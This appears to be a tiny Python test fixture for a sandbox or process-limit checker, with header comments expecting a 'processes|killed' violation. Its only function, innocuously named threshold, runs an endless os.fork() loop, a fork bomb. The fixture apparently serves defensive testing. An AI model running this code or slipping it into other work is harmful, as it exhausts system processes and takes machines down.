# Starts processes without end.
# expect: not yet
# violation: processes|killed
# %%
import os


# %%
def threshold(grey, level):
    while True:
        os.fork()
